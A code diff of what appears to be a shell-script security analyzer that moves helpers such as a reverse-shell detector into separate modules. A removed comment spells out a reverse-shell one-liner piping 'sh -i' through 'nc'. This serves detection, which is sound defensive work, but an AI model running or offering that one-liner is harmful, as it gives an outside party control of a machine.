@@ -12,12 +12,14 @@ import type {
 import { type Analysis, addOpaque, nothing, type Run } from './analysis.ts';
 import { readArithmetic } from './arithmetic.ts';
 import { assign, settingFindings } from './assignments.ts';
-import { fedUnknown, judgeWords, report } from './command.ts';
+import { judgeWords, report } from './command.ts';
 import { createFolding, foldWord } from './fold.ts';
 import { loop } from './loop.ts';
+import { noteReverseShell } from './origin.ts';
 import type { Folding } from './piece.ts';
+import { isReading, linesOf } from './read-line.ts';
 import { readRedirections } from './redirections.ts';
-import { adopt, fork, join, limits, type State } from './state.ts';
+import { adopt, fork, join, keepChanges, limits, type State } from './state.ts';
 import { hasNetwork, runSubstitutions } from './substitutions.ts';
 import { type Stream, unknown, type Word } from './word.ts';
 
@@ -105,14 +107,6 @@ function walkPipeline(commands: readonly SyntaxNode[], run: Run, analysis: Analy
 	}
 	noteReverseShell(start, analysis);
 	return stdin ?? nothing;
-}
-
-/** A shell whose commands cannot be known, in one pipeline with another machine: `sh -i < pipe | nc host 1 > pipe`. */
-function noteReverseShell(from: number, analysis: Analysis): void {
-	const effects = analysis.parts.slice(from).flatMap((part) => part.effects);
-	const isFed = effects.some((effect) => effect.kind === 'opaque' && effect.why === fedUnknown);
-	const isConnected = effects.some((effect) => effect.kind === 'network');
-	if (isFed && isConnected) addOpaque(analysis, '|', 'reverse shell: a shell is connected to another machine');
 }
 
 /** `a && b || c`: what comes after the first may run or not. */
@@ -212,22 +206,6 @@ function walkWhile(node: While, run: Run, analysis: Analysis): Stream {
 	return { fetched: streams.some((stream) => stream.fetched) };
 }
 
-function isReading(clause: SyntaxNode): boolean {
-	const [first, ...others] = clause.type === 'CompoundList' ? clause.commands : [];
-	return others.length === 0 && first?.command.type === 'Command' && first.command.name?.value === 'read';
-}
-
-function linesOf(stdin: Stream | undefined): readonly Stream[] | undefined {
-	const lines = stdin?.names?.map((name) => ({ fetched: false, names: [name] })) ?? textLines(stdin?.text);
-	return lines !== undefined && lines.length <= limits.alternatives ? lines : undefined;
-}
-
-function textLines(text: string | undefined): readonly Stream[] | undefined {
-	const lines = text?.split('\n');
-	if (lines?.at(-1) === '') lines.pop();
-	return lines?.map((line) => ({ fetched: false, text: `${line}\n` }));
-}
-
 /** Defines a function. Where two definitions may hold, a call judges both. */
 function defineFunction(name: string, body: SyntaxNode, run: Run, analysis: Analysis): Stream {
 	const before = analysis.functions.get(name);
@@ -305,12 +283,6 @@ function walkCommand(node: Command, run: Run, analysis: Analysis): Stream {
 	// `export X=1`, `local X=1`: the arguments of a declaration are assignments.
 	for (const item of declared) assign(item, folding, run.state);
 	return output;
-}
-
-/** What a builtin changed outlives the command; the assignments before it do not. */
-function keepChanges(from: State, to: State, temporary: ReadonlySet<string>): void {
-	to.cwd = from.cwd;
-	for (const [name, value] of from.variables) if (!temporary.has(name)) to.variables.set(name, value);
 }
 
 function argument(item: SyntaxWord | Assignment, folding: Folding): Word[] {
